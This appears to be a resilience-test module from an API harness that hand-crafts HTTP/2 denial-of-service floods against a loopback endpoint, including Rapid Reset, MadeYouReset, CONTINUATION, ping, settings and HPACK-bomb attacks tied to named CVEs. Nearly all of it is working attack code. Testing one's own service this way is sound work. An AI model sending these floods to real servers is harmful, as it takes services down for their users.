"""Floods of HTTP/2 frames, written by hand because a proper library refuses to send them."""

from __future__ import annotations

import ssl
from collections.abc import Callable, Iterator
from itertools import islice

from hpack import Encoder

from harness import ApiUser, Endpoint
from harness.billogram import CUSTOMERS

PROBE = f"{CUSTOMERS}?page=1"
FRAMES = 20_000
PATIENT_STREAMS = 190
"""NIOHTTP2 ends a connection with the 201st reset."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SEND_SECONDS = 5.0
SOURCE = "127.0.0.2"
"""Where floods come from; a good caller comes from another address of loopback."""

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 0x1, 0x4

Flood = Callable[[Endpoint, ApiUser], Iterator[bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one frame (RFC 9113, section 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def request_block(endpoint: Endpoint, caller: ApiUser, method: str = "GET") -> bytes:
    """Return a header block without dynamic table, so that it can be sent any number of times."""
    encoder = Encoder()
    encoder.header_table_size = 0
    name, value = caller.authorization
    fields = [
        (":method", method),
        (":scheme", "https"),
        (":authority", endpoint.authority),
        (":path", PROBE),
        (name.lower(), value),
    ]
    return encoder.encode(fields)


def rapid_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
    """Open streams and give each up at once (CVE-2023-44487)."""
    block = request_block(endpoint, caller)
    for number in range(1, FRAMES, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block)
        yield frame(RST_STREAM, 0, number, (8).to_bytes(4, "big"))


def patient_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
    """Give up fewer streams than end a connection, and then open the next one."""
    return islice(rapid_reset(endpoint, caller), 2 * PATIENT_STREAMS)


def patient_post(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
    """The same with requests whose body never comes."""
    block = request_block(endpoint, caller, "POST")
    for number in range(1, 2 * PATIENT_STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, number, block)
        yield frame(RST_STREAM, 0, number, (8).to_bytes(4, "big"))


def made_you_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
    """Open streams and have the server reset each, for what may not follow (CVE-2025-8671)."""
    block = request_block(endpoint, caller)
    for number in range(1, FRAMES, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block)
        yield frame(DATA, 0, number, b"x")


def pings(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
    """Ask for acknowledgements that are never read (CVE-2019-9512)."""
    return (frame(PING, 0, 0, bytes(8)) for _ in range(FRAMES))


def settings(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
    """Change the settings again and again; each change must be acknowledged (CVE-2019-9515)."""
    return (frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") for _ in range(FRAMES))


def empty_data(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
    """Send frames without content that never end their stream (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, request_block(endpoint, caller, "POST"))
    yield from [frame(DATA, 0, 1, b"")] * FRAMES


def continuations(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
    """Never end a header block (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, b"\x82")
    yield from [frame(CONTINUATION, 0, 1, b"\x82" * 256)] * FRAMES


def header_bomb(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
    """Put one large field into the dynamic table and name it thousands of times (CVE-2016-6581)."""
    large = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
    bomb = request_block(endpoint, caller) + large + b"\xbe" * 12_000
    for number in range(1, 41, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, bomb)


FLOODS: dict[str, Flood] = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        patient_reset,
        patient_post,
        made_you_reset,
        pings,
        settings,
        empty_data,
        continuations,
        header_bomb,
    )
}


def send_flood(endpoint: Endpoint, frames: Iterator[bytes], stays: bool = False) -> None:
    """Send the frames without reading; the server may stop reading or end the connection.

    Who stays waits for the server to end it: of a client that has gone, the system drops what a
    busy server has not read.
    """
    with endpoint.open(SEND_SECONDS, alpn=("h2",), source=SOURCE) as connection:
        assert isinstance(connection, ssl.SSLSocket) and connection.selected_alpn_protocol() == "h2"
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for one in frames:
                connection.sendall(one)
            while stays and connection.recv(65_536):
                pass
        except OSError:
            return
